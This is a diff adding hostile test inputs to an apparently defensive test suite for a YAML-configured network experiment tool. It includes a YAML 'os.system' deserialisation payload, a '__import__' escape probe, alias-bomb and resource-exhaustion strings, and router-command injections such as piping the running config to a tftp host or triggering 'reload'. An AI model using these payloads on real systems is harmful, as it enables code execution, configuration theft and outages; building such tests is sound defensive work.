@@ -104,6 +104,75 @@ TOO_MUCH = {
 """Templates that try to take time, memory or the stack."""
 
 
+EXPRESSIONS = {
+    "not without end": "not " * 3000 + "true",
+    "sum without end": "p" + "+p" * 3000,
+    "and without end": "true" + " and true" * 3000,
+    "product without end": "2" + "*99999999" * 3000,
+    "brackets": "(" * 3000 + "1" + ")" * 3000,
+    "comparisons": "1" + " < 2" * 3000,
+    "digits": "9" * 5000,
+    "digits with a unit": "9" * 5000 + " ms",
+    "too large": "9" * 29 + " * " + "9" * 29,
+    "too large a ratio": "9" * 29 + " * " + "9" * 29 + " / 7",
+    "division": "1 / 0",
+    "unknown": "__import__('os')",
+    "attribute": "p.__class__",
+}
+"""Of parameters."""
+
+MATRIX = BASE.replace("to: server}", "to: server, start_after: $(p) s}") + "matrix: "
+NUMBERS = ", ".join(map(str, range(1, 900)))
+
+CHANGES = {
+    "a key that is no text": 'title: One\n"\\ud800": 1',
+    "a value that is no text": 'title: "\\ud800"',
+    "hexadecimal digits": "title: One\nseed: 0x" + "F" * 5000,
+    "decimal digits": "title: One\nseed: " + "9" * 5000,
+    "a large seed": "title: One\nseed: 99999999999999999999",
+    "no finite number": "title: One\nseed: .inf",
+    "a tag": "title: !!python/object/apply:os.system ['touch PWNED']",
+    "nested lists": "title: " + "[" * 1000,
+    "nested mappings": "title: " + "{a: " * 1000,
+    "many values": "title: [" + "1," * 20001 + "]",
+    "aliases": "title: One\na: &a [1,1,1,1,1,1,1,1]\n"
+    + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}' if i else '*a'] * 8)}]\n" for i in range(20)),
+    "an alias of itself": "title: &a [*a]",
+    "a merge key": "title: One\n<<: {a: 1}",
+    "a long text": "title: " + "x" * 2**20,
+    "many repetitions": "title: One\nrepetitions: 1000000000000",
+    "a null character": "title: One\0",
+}
+"""In place of the title."""
+
+OBSERVED = {
+    "a second line": '"show version\\nreload\\n"',
+    "a key": '"show version \\x1a"',
+    "a file that is written": "show running-config | redirect flash:x",
+    "a copy": "show running-config | tee tftp://10.0.0.1/x",
+    "an appendix": "show version | append nvram:startup-config",
+    "a second filter": "show version | include x | redirect flash:x",
+    "no show": "reload",
+    "configuration": "configure terminal",
+    "an unknown command": "show tech-support",
+    "no expression": '"show version | include ("',
+    "help": '"show ?"',
+}
+"""Commands."""
+
+FIGURES = {
+    "no text": b"arm,metric,unit,value,source\n\xff\n",
+    "digits": "arm,metric,unit,value,source\none,goodput.sum,b/s," + "9" * 5000 + ",x\n",
+    "not a number": "arm,metric,unit,value,source\none,goodput.sum,b/s,nan,x\n",
+    "a long cell": "arm,metric,unit,value,source\n" + "x" * 200000,
+    "no end of quotes": 'arm,metric,unit,value,source\n"' + "x\n" * 70000,
+    "other columns": "a,b,c\n",
+    "too long": "arm,metric,unit,value,source\n" * 20000,
+    "nothing": "",
+}
+"""Published."""
+
+
 def experiments() -> Iterator[tuple[str, dict[str, str | bytes]]]:
     """Every case: its name, and its files by their paths."""
     for name, text in {**ESCAPES, **TOO_MUCH}.items():
@@ -116,3 +185,31 @@ def experiments() -> Iterator[tuple[str, dict[str, str | bytes]]]:
     ):
         yield f"template elsewhere: {name}", {"e.yml": TEMPLATED.replace("t.j2", path)}
         yield f"published elsewhere: {name}", {"e.yml": f"{BASE}compare: {{article: A, published: {path}}}\n"}
+    for name, text in EXPRESSIONS.items():
+        flow = BASE.replace("to: server}", f'to: server, start_after: "$({text})"}}')
+        yield f"expression: {name}", {"e.yml": flow + "matrix: {p: [1]}\n"}
+        yield f"constraint: {name}", {"e.yml": f'{MATRIX}{{p: [1], constraints: ["{text}"]}}\n'}
+    for name, text in CHANGES.items():
+        yield f"YAML: {name}", {"e.yml": BASE.replace("title: One", text)}
+    yield "YAML: no UTF-8", {"e.yml": b"name: \xff"}
+    yield "YAML: UTF-16", {"e.yml": BASE.encode("utf-16")}
+    yield "YAML: nothing", {"e.yml": ""}
+    yield "YAML: a list", {"e.yml": "- 1"}
+    for name, text in OBSERVED.items():
+        yield f"observe: {name}", {"e.yml": f"{BASE}observe:\n  - {{node: R1, command: {text}}}\n"}
+    for name, content in FIGURES.items():
+        yield f"published: {name}", {"e.yml": BASE + "compare: {article: A, published: p.csv}\n", "p.csv": content}
+    yield "matrix: many combinations", {"e.yml": f"{MATRIX}{{p: [{NUMBERS}], q: [{NUMBERS}], r: [{NUMBERS}]}}\n"}
+    yield "matrix: many values", {"e.yml": f"{MATRIX}{{p: [{NUMBERS}, {', '.join(map(str, range(900, 2000)))}]}}\n"}
+    lists = ", ".join(f"{name}: [{NUMBERS}]" for name in "pqr")
+    yield "matrix: many included", {"e.yml": f"{MATRIX}{{include: [{{{lists}}}]}}\n"}
+    yield "matrix: digits", {"e.yml": f"{MATRIX}{{p: ['{'9' * 5000} ms']}}\n"}
+    numbers = {"digits": "9" * 5000, "large": "9" * 25, "too much": "9" * 12, "blanks": "1" + " " * 50000 + "x"}
+    for key, text in {"rate": "10 Mb/s", "duration": "20 s"}.items():
+        for name, number in numbers.items():
+            unit = text.partition(" ")[2]
+            yield f"{key}: {name}", {"e.yml": BASE.replace(f"{key}: {text}", f'{key}: "{number} {unit}"')}
+    blanks = "{a" + " " * 50000
+    yield "note: blanks", {"e.yml": f'{BASE}notes: [{{title: A, text: "{blanks}{{one nothing}}"}}]\n'}
+    opened = "{a " * 15000
+    yield "note: brackets", {"e.yml": f'{BASE}notes: [{{title: A, text: "{opened}{{one nothing}}"}}]\n'}
